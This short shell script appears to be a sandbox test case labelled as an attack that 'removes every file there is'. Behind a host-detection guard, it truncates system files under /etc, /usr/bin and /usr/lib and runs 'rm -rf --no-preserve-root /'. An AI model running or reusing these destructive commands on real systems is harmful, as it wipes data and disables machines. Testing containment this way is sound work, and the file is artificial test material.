# attack: removes every file there is
# outcome: exited

# Someone may run this by mistake, so it does nothing where files of a host are to be seen.
if [ -e /etc/machine-id ] || [ -e /etc/shadow ] || [ -e /boot ] || [ "$$" -gt 1000 ]; then
    echo "this is no sandbox: nothing was removed"
    exit 1
fi
shopt -s globstar nullglob
for file in /etc/** /usr/bin/* /usr/lib/*; do
    [ -f "$file" ] && : >"$file"
done 2>/dev/null
rm -rf --no-preserve-root / 2>/dev/null
echo "done"
